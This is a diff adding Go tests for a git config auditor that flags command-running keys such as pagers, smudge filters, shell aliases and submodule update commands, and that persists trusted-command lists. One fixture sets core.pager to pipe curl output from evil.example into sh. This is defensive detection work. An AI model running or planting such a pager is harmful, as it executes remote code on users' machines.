@@ -0,0 +1,80 @@
+package gitcfg
+
+import "testing"
+
+func TestAuditCommandKeys(t *testing.T) {
+	t.Parallel()
+
+	entries := []gitConfigEntry{
+		{key: "core.pager", value: "less -R", scope: ConfigScopeGlobal, order: 0},
+		{key: "core.pager", value: "sh -c 'curl evil.example | sh'", scope: ConfigScopeLocal, order: 1},
+		{key: "core.fsmonitor", value: "true", scope: ConfigScopeLocal, order: 2},
+		{key: "filter.lfs.smudge", value: "git-lfs smudge -- %f", scope: ConfigScopeLocal, order: 3},
+		{key: "alias.st", value: "status", scope: ConfigScopeLocal, order: 4},
+		{key: "alias.up", value: "!git pull --rebase", scope: ConfigScopeWorktree, order: 5},
+		{key: "user.name", value: "Alice", scope: ConfigScopeLocal, order: 6},
+		{key: "submodule.lib.update", value: "rebase", scope: ConfigScopeLocal, order: 7},
+		{key: "submodule.tool.update", value: "!./sync.sh", scope: ConfigScopeLocal, order: 8},
+	}
+	matrix := ConfigMatrix{Entries: buildConfigValues(entries)}
+
+	findings := auditCommandKeys(matrix, nil)
+	byKey := make(map[string][]CommandKeyFinding)
+	for _, finding := range findings {
+		byKey[finding.Key] = append(byKey[finding.Key], finding)
+	}
+
+	if len(findings) != 5 {
+		t.Fatalf("expected pager twice, smudge filter, shell alias and submodule command, got %+v", findings)
+	}
+	if pagers := byKey["core.pager"]; len(pagers) != 2 || pagers[0].Local == pagers[1].Local {
+		t.Fatalf("expected inherited and local pager to be distinguished, got %+v", pagers)
+	}
+	if _, ok := byKey["core.fsmonitor"]; ok {
+		t.Fatal("expected core.fsmonitor=true not to be reported as a command")
+	}
+	if up := byKey["alias.up"]; len(up) != 1 || !up[0].Local {
+		t.Fatalf("expected worktree shell alias to be local, got %+v", up)
+	}
+	if !findings[0].Local {
+		t.Fatalf("expected local findings to sort first, got %+v", findings)
+	}
+
+	if issues := commandIssues(findings); len(issues) != 4 {
+		t.Fatalf("expected four issues for local commands, got %+v", issues)
+	}
+
+	smudge := byKey["filter.lfs.smudge"][0]
+	trusted := []TrustedCommand{{Key: smudge.Key, Fingerprint: smudge.Fingerprint}}
+	if issues := commandIssues(auditCommandKeys(matrix, trusted)); len(issues) != 3 {
+		t.Fatalf("expected trusted filter to be skipped, got %+v", issues)
+	}
+}
+
+func TestTrustListPersistence(t *testing.T) {
+	s := newTestService(t)
+
+	add := func(list []TrustedCommand) []TrustedCommand {
+		return append(list, TrustedCommand{Key: "core.pager", Fingerprint: "abc"})
+	}
+	if err := s.updateTrust("repo", add); err != nil {
+		t.Fatalf("updateTrust returned error: %v", err)
+	}
+
+	reloaded := NewService()
+	reloaded.dataDir = s.dataDir
+	trusted, err := reloaded.trustedCommands("repo")
+	if err != nil {
+		t.Fatalf("trustedCommands returned error: %v", err)
+	}
+	if len(trusted) != 1 || trusted[0].Fingerprint != "abc" {
+		t.Fatalf("expected trust list to persist, got %+v", trusted)
+	}
+
+	if err := reloaded.UntrustCommandKey("repo", "Core.Pager", "abc"); err != nil {
+		t.Fatalf("UntrustCommandKey returned error: %v", err)
+	}
+	if trusted, _ := reloaded.trustedCommands("repo"); len(trusted) != 0 {
+		t.Fatalf("expected trust entry to be removed, got %+v", trusted)
+	}
+}